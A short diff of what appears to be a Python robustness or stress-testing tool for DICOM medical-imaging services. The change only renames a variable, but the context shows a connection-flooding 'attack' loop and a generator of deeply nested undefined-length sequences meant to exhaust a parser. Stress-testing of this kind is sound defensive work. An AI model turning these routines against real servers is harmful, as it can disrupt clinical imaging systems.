@@ -72,10 +72,10 @@ def _again_and_again(sent: bytes, *, at_once: int = 10) -> Attack:
     def attack(target: Target) -> None:
         while target.goes_on:
             with ExitStack() as connections, suppress(OSError):
-                opened = [connections.enter_context(closing(target.connect())) for _ in range(at_once)]
-                for connection in opened:
+                open_app = [connections.enter_context(closing(target.connect())) for _ in range(at_once)]
+                for connection in open_app:
                     connection.sendall(sent)
-                for connection in opened:
+                for connection in open_app:
                     connection.recv(10)
 
     return attack
@@ -211,8 +211,8 @@ def _element(group: int, number: int, value: bytes) -> bytes:
 
 def _nested(depth: int) -> bytes:
     """A sequence in a sequence in a sequence."""
-    opened = struct.pack("<HHLHHL", 8, 0x1199, 0xFFFFFFFF, 0xFFFE, 0xE000, 0xFFFFFFFF)
-    return _element(8, 0x1150, text("1.2")) + opened * depth
+    open_app = struct.pack("<HHLHHL", 8, 0x1199, 0xFFFFFFFF, 0xFFFE, 0xE000, 0xFFFFFFFF)
+    return _element(8, 0x1150, text("1.2")) + open_app * depth
 
 
 def _fragments(control: int, fragment: bytes, *, size: int = _LONGEST_PDU) -> bytes:
